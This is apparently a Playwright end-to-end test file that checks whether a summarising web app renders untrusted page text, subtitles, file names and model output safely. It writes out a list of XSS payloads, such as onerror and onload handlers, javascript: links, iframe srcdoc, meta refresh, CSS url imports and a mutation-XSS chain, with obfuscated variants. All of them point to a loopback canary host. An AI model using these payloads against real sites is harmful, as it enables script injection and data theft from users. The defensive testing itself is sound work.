/**
 * Text that others wrote, and what a model made of it, in a real browser: nothing in it may fetch, navigate, run or
 * frame, wherever it is shown. Sixteen carriers in four spellings, in the note, the article, the subtitles, the mind map,
 * answers, prompts' results and the title; the address they all lead to is a loopback ear that must hear nothing.
 */
import type { Page } from '@playwright/test';
import { chooseAction } from '../harness/browser/actions.ts';
import { expect, test } from '../harness/browser/e2e.ts';
import { startOwnServer } from '../harness/browser/e2e-server.ts';
import { cues as told } from '../harness/browser/recording.ts';
import { makeMatroska } from '../harness/files/make-matroska.ts';
import { type Canary, startCanary } from '../harness/http/canaries.ts';
import type { TestServer } from '../harness/http/server.ts';
import { type FakeLlm, startFakeLlm, writeNoteFor } from '../harness/models/fake-llm.ts';

test.use({ locale: 'zh-CN' });
test.describe.configure({ mode: 'default' });

let canary: Canary;
let llm: FakeLlm;
let server: TestServer;

test.beforeAll(async ({ site }) => {
  canary = await startCanary();
  llm = await startFakeLlm();
  server = await startOwnServer({
    env: {
      GLEANER_FETCH_ALLOW: new URL(site.url).host,
      OPENAI_BASE_URL: llm.url,
      OPENAI_API_KEY: 'sk-test-canary-000000000000',
      OPENAI_MODEL: 'misled-model',
    },
  });
});

test.afterAll(async () => {
  await server.stop();
  server.remove();
  await Promise.all([llm.close(), canary.close()]);
});

/** One line each, all leading to the ear. */
function carriers(): string[] {
  const to = (id: string) => `http://${canary.host}/leak?${id}`;
  const plain = [
    `![a](${to('md-image')})`,
    `![a][ref1] and [b][ref1]`,
    `<img src="${to('img')}" onerror="alert(1);fetch('${to('img-error')}')">`,
    `<img srcset="${to('srcset')} 1x" alt="x">`,
    `<svg onload="alert(2)"><image href="${to('svg-image')}" /><use href="${to('svg-use')}#x" /></svg>`,
    `<iframe src="${to('iframe')}" srcdoc="<script>alert(3)</script>"></iframe>`,
    `<link rel="stylesheet" href="${to('stylesheet')}"><link rel="prefetch" href="${to('prefetch')}">`,
    `<style>@import url("${to('import')}"); body { background: url("${to('css')}") }</style>`,
    `<p style="background-image: url('${to('style')}')">styled</p>`,
    `<video autoplay poster="${to('poster')}" src="${to('video')}"></video><audio autoplay src="${to('audio')}"></audio>`,
    `<object data="${to('object')}"></object><embed src="${to('embed')}">`,
    `<script src="${to('script')}"></script><script>alert(4);fetch("${to('inline')}")</script>`,
    `<meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
    `[press](javascript:alert(5)) <a href="javascript:alert(6)" ping="${to('ping')}">press</a> [d](data:text/html,<script>alert(7)</script>)`,
    `<form action="${to('form')}"><input autofocus onfocus="alert(8);this.form.submit()"></form>`,
    `<details open ontoggle="alert(9)"><math><mtext><img src=x onerror=fetch("${to('mutation')}")></mtext></math></details>`,
  ];
  const entities = (text: string) => text.replace(/[<>"':]/g, (mark) => `&#x${mark.charCodeAt(0).toString(16)};`);
  const shouted = (text: string) =>
    text.replace(/<\/?[a-z]+|javascript/g, (word) => `${word.toUpperCase()}`).replace(/ (src|href|on\w+)=/g, '\u200b/$1\t=');
  const wrapped = (text: string) => `**[${text}](<http://${canary.host}/leak?wrapped>)** \`${text}\``;
  return [...plain, ...plain.map(entities), ...plain.map(shouted), ...plain.map(wrapped)];
}

/** What the page did besides showing text. */
async function watch(page: Page) {
  const seen = { strangers: [] as string[], dialogs: [] as string[], popups: 0 };
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith('http') && host !== new URL(server.url).host) seen.strangers.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', () => seen.popups++);
  await page.addInitScript(() => {
    const list: string[] = [];
    Object.assign(window, { violations: list });
    document.addEventListener('securitypolicyviolation', (event) => list.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return async () => {
    const { violations, active } = await page.evaluate(() => {
      const live = [
        ...document.querySelectorAll(
          'script, iframe, object, embed, link, style, form, meta[http-equiv], base, img, video, audio, source, use, image, a, [style]',
        ),
      ];
      const attributes = ['src', 'srcset', 'href', 'xlink:href', 'data', 'action', 'poster', 'ping', 'srcdoc', 'style'];
      return {
        violations: (window as unknown as { violations: string[] }).violations,
        // A link may lead elsewhere, when a person follows it. Nothing else may, and no attribute is a handler.
        active: live
          .flatMap((element) =>
            attributes
              .map((name) => [element.tagName, name, element.getAttribute(name) ?? ''] as const)
              .filter(
                ([tag, name, value]) =>
                  (/\/leak\?/.test(value) && !(tag === 'A' && name === 'href')) || /^\s*(?:javascript|data:text)/i.test(value),
              )
              .map((found) => found.join(' ')),
          )
          .concat(
            [...document.querySelectorAll('*')]
              .filter((element) => [...element.attributes].some(({ name }) => /^on/i.test(name)))
              .map((element) => element.outerHTML.slice(0, 120)),
          ),
      };
    });
    expect({ ...seen, violations, active, heard: canary.hits }).toEqual({
      strangers: [],
      dialogs: [],
      popups: 0,
      violations: [],
      active: [],
      heard: [],
    });
  };
}

/** The carriers as a note that a misled model would write, resting on real lines. */
function misledNote(prompt: string): string {
  const lines = [...prompt.matchAll(/^L(\d+) /gm)].map(([, id]) => Number(id));
  const at = (index: number) => lines[Math.min(lines.length - 1, Math.floor((index / 64) * lines.length))] ?? 0;
  const list = carriers();
  const parts = [`> ${list[0]} ${list[2]}`, ''];
  for (let section = 0; section < 4; section++) {
    parts.push(`## Part ${section} ${list[section * 16 + 2]} [L${at(section * 16)}]`);
    for (let index = section * 16; index < section * 16 + 16; index++)
      parts.push(`- ${list[index]} [L${at(index)}]`, `  - “${list[index]}” [L${at(index)}]`);
    parts.push('');
  }
  parts.push(`[ref1]: http://${canary.host}/leak?reference`, '', '#<img/src=x> #![a](http://leak) #tag', '');
  return parts.join('\n');
}

async function visitTabs(page: Page, tabs: readonly string[], check: () => Promise<void>): Promise<void> {
  for (const name of tabs) {
    await page.getByRole('tab', { name }).click();
    await expect(page.getByRole('tabpanel', { name })).toBeVisible();
    await check();
  }
}

const title = () => `<img src=x onerror=alert(20)> ![t](http://${canary.host}/leak?title) [j](javascript:alert(21))`;

test('SUM-14 a page full of carriers and a note full of carriers stay text', async ({ page, site }) => {
  expect(carriers()).toHaveLength(64);
  llm.script(({ prompt }) => ({ text: misledNote(prompt), pieceLength: 400 }));
  const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  const words =
    'The valley kept its grain in a stone barn near the river, and every autumn the families carried what they had gathered.';
  // As words that a reader sees, and as the markup itself.
  const body = carriers()
    .map(
      (text, index) =>
        `<p>${index}. ${words} ${escaped(text)}</p><p>${index}. ${words} ${text.replaceAll(/<\/?(?:script|style)[^>]*>/gi, '')}</p>`,
    )
    .join('\n');
  site.on('/carriers', {
    body: `<!doctype html><html lang="en"><head><title>${escaped(title())}</title><meta property="og:title" content="${escaped(title()).replaceAll('"', '&quot;')}"><meta property="og:image" content="http://${canary.host}/leak?cover"></head><body><article><h1>${escaped(title())}</h1>${body}<p>[ref1]: http://${canary.host}/leak?reference</p></article></body></html>`,
  });
  const check = await watch(page);
  await page.goto(`${server.url}/`);
  await page.getByRole('textbox', { name: '粘贴链接，或拖入文件' }).fill(`${site.url}/carriers`);
  // What is known of the link moves the button to its place.
  await expect(page.getByTestId('preview-item')).toBeVisible();
  await page.getByRole('button', { name: '开始总结' }).click();
  await expect(page).toHaveURL(/\/content\/[0-9a-f-]{36}/);
  await expect(page.getByText('由 misled-model 撰写')).toBeVisible({ timeout: 40_000 });
  const note = page.getByRole('article', { name: '笔记' });
  await expect(note).toContainText('onerror');
  await check();
  await visitTabs(page, ['思维导图', '文章', '总结'], check);
  await page.goto(`${server.url}/`);
  await expect(page.getByText('onerror=alert(20)').first()).toBeVisible();
  await check();
  await page.goto(`${server.url}/user/videos`);
  await expect(page.getByText('onerror=alert(20)').first()).toBeVisible();
  await check();
});

test('SUM-14 carriers in subtitles and in a file’s name stay text', async ({ page }) => {
  llm.script(({ prompt }) => ({ text: misledNote(prompt), pieceLength: 400 }));
  // Between lines that a talk would have: a track of nothing but markup is not believed to be one.
  const cues = carriers().flatMap((text, index) => [
    {
      startMs: index * 30000,
      endMs: index * 30000 + 14000,
      text: `${told[index % told.length]?.text} It was year ${1700 + index}, and the ${index + 3} families of the valley remembered it well.`,
    },
    { startMs: index * 30000 + 15000, endMs: index * 30000 + 29000, text },
  ]);
  const check = await watch(page);
  await page.goto(`${server.url}/`);
  await page.locator('input[type=file]').setInputFiles({
    name: '<img src=x onerror=alert(30)>.mkv',
    mimeType: 'video/x-matroska',
    buffer: makeMatroska({ seconds: 1920, subtitles: [{ codec: 'S_TEXT/UTF8', language: 'eng', cues }] }),
  });
  await expect(page).toHaveURL(/\/content\/[0-9a-f-]{36}/);
  await expect(page.getByText('由 misled-model 撰写')).toBeVisible({ timeout: 40_000 });
  await check();
  await visitTabs(page, ['思维导图', '字幕', '总结'], check);
});

/** The carriers as an answer that a misled model would give, each resting on a real line. */
function misledAnswer(prompt: string): string {
  const lines = [...prompt.matchAll(/^L(\d+) /gm)].map(([, id]) => Number(id));
  const at = (index: number) => lines[index % Math.max(1, lines.length)] ?? 0;
  const list = carriers();
  const told = list.map((text, index) => `- ${text} [L${at(index)}]`);
  const table = `| ${list[2]} | b |\n| --- | --- |\n| ${list[0]} | ${list[4]} |`;
  const related = `RELATED\n- ${list[0]}?\n- ${list[2]}?\n- ${list[13]}?`;
  return `Here it is. [L${at(0)}]\n\n${told.join('\n')}\n\n${table}\n\n- [ ] ${list[2]}\n\n[ref1]: http://${canary.host}/leak?reference\n\n${related}\n`;
}

test('SUM-14 CON-11 CON-07 an answer and a prompt’s result full of carriers stay text, while they are written and after', async ({
  page,
  site,
}) => {
  llm.script(({ prompt }) =>
    prompt.includes('Question: ') || prompt.includes('REQUEST-')
      ? { text: misledAnswer(prompt), pieceLength: 400, delayMs: 30 }
      : { text: writeNoteFor(prompt) },
  );
  const paragraphs = Array.from(
    { length: 14 },
    (_, index) =>
      `<p>Report ${index} says that the valley kept its grain in a stone barn near the river, and that ${index + 3} families carried it there.</p>`,
  );
  site.on('/asked', {
    body: `<!doctype html><html lang="en"><head><title>The barn</title></head><body><article><h1>The barn</h1>${paragraphs.join('')}</article></body></html>`,
  });
  const check = await watch(page);
  await page.goto(`${server.url}/`);
  await page.getByRole('textbox', { name: '粘贴链接，或拖入文件' }).fill(`${site.url}/asked`);
  // What is known of the link moves the button to its place.
  await expect(page.getByTestId('preview-item')).toBeVisible();
  await page.getByRole('button', { name: '开始总结' }).click();
  await expect(page.getByText('由 misled-model 撰写')).toBeVisible({ timeout: 40_000 });

  await page.getByRole('button', { name: '提问' }).click();
  const panel = page.getByRole('complementary', { name: '问这份内容' });
  await panel.getByRole('textbox', { name: '你的问题' }).fill('<img src=x onerror=alert(40)> ?');
  await panel.getByRole('textbox', { name: '你的问题' }).press('Enter');
  await expect(panel.getByText('Here it is.')).toBeVisible();
  await check();
  await expect(panel.getByRole('button', { name: '重新回答' })).toBeVisible();
  await expect(panel).toContainText('onerror');
  await check();
  // The conversation is open again.
  await page.reload();
  await expect(panel).toContainText('onerror');
  await check();
  await panel.press('Escape');

  await chooseAction(page, '运行提示词', '行动清单');
  const answer = page.getByRole('article', { name: '答案' });
  await expect(answer).toContainText('Here it is.');
  await check();
  await expect(page.getByText(/由 misled-model 撰写 · \d+ 处引用/)).toBeVisible();
  await expect(answer).toContainText('onerror');
  await check();
  await page.reload();
  await expect(answer).toContainText('onerror');
  await check();
});
